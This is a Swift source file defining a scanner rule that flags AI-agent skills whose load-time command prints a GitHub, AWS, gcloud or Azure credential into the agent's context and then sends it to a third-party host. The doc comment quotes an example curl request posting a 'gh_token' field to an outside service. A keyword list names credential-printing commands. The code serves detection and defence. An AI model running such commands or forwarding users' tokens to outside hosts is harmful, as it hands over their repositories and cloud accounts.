import SkillScanCore
import SkillScanLexers

/// A load-time command prints a CLI's credential into the agent's context (`` !`gh auth
/// status --show-token` ``), and a request the instructions show sends a field named for that
/// credential to someone else's host: `curl -X POST https://api.rotator.cloud/… -d
/// '{"gh_token":"<token>", …}'` (taxonomy.md E4 with E1, §5.6 and §5.8).
///
/// The directive runs before the model reads a word, so the secret is in the conversation;
/// the request only has to name it. A GitHub token belongs in requests to GitHub: sending it
/// to a third party's "verification" service hands over the user's repositories. The field
/// must name the credential's vendor (`gh_token`, `aws_secret_…`): a request carrying the
/// skill's own service key (`Bearer $ROTATOR_KEY`) is that service's authentication.
struct LoadedCredentialForwardingRule: Rule {
  static let description = RuleDescription(
    id: "loaded-credential-forwarded",
    name: "Credential printed at load time sent to a third party",
    pattern: .e4,
    severity: .high,
    confidence: .high,
    languages: [.markdown],
    summary: "A load-time command puts a CLI credential in context and the instructions send it to a host its vendor does not own.",
    rationale: """
      `!`gh auth token`` and its kin run as the skill loads and place a live credential in the \
      conversation. A request in the same instructions that carries a field named for that \
      credential to another service sends the token out; nothing about rotating, auditing or \
      verifying needs the user's GitHub or cloud session key on someone else's server.
      """,
    remediation: "Never print credentials into context; let the CLI authenticate its own calls.",
    references: [.owaspLLM(2), .owaspASI(3), .cwe(522), .taxonomy("E4"), .taxonomy("E1"), .taxonomy("5.6")],
    keywords: ["auth token", "show-token", "auth status -t", "print-access-token", "get-access-token", "export-credentials", "credential fill"],
    triggeringExamples: LoadedCredentialForwardingRule.triggering,
    nonTriggeringExamples: LoadedCredentialForwardingRule.nonTriggering
  )

  /// Words of a request field that name each credential's vendor (lower-case).
  static let fieldWords: [String: [String]] = [
    "GitHub CLI token": ["gh_token", "github_token", "gh-token", "github-token", "ghtoken", "githubtoken", "gh token", "github token"],
    "git credential helper": ["git_credential", "git-credential", "gh_token", "github_token"],
    "gcloud access token": ["gcloud", "google_token", "gcp_token", "google-token", "gcp-token"],
    "AWS credentials": ["aws_access", "aws_secret", "aws_session", "aws-access", "aws-secret", "aws-session"],
    "Azure credentials": ["azure_token", "az_token", "azure-token", "az-token", "azure_access"],
  ]

  func check(file: AnalyzedFile, in skill: AnalyzedSkill, into sink: inout FindingSink) {
    let bytes = file.bytes
    var loaded: [String] = []
    for region in file.regions where region.kind == .loadTimeDirective {
      let command = String(decoding: bytes[region.range.clamped(to: 0..<bytes.count)].prefix(512), as: UTF8.self)
      if let match = ExfilSources.classify(commandLine: command), match.kind == .credential, Self.fieldWords[match.label] != nil,
        !loaded.contains(match.label)
      {
        loaded.append(match.label)
      }
    }
    guard !loaded.isEmpty else { return }
    for parsed in file.parsedShellSpans where parsed.span.isCode {
      for pipeline in parsed.pipelines {
        for command in pipeline.commands {
          guard let send = ExfilShellSink.recognize(command, bytes: bytes), let host = send.host, send.channel == .http,
            !ExfilHosts.isLoopbackOrPrivate(host, singleLabelIsLocal: true)
          else { continue }
          let carried = ExfilShellSink.arguments(command, bytes).joined(separator: " ").lowercased()
          for label in loaded {
            guard let words = Self.fieldWords[label], let word = words.first(where: { ByteSearch.contains(carried, $0) }),
              !FlowScanner.owedTo(host, store: label == "git credential helper" ? ".git-credentials" : label)
            else { continue }
            sink.report(
              "the \(label) a load-time command prints into context is sent to \(host) (field '\(word)')",
              in: file, at: command.range, polarity: ProsePolarity.classify(file, at: command.range), chain: .exfiltration)
            return
          }
        }
      }
    }
  }
}
